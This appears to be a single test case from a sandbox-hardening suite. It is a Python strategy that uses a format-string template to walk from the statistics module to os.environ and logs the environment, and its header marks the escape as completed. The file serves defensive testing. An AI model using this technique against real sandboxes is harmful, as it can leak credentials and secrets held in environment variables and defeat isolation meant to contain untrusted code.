# id: L12
# family: language
# goal: print the machine's environment by a template that walks to it
# finding: PY106 PY114
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import statistics


def attack(ctx, bar):
    text = "{m.random._os.environ}".format_map({"m": statistics})
    return text if "PATH" in text or "JAVA" in text else None


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
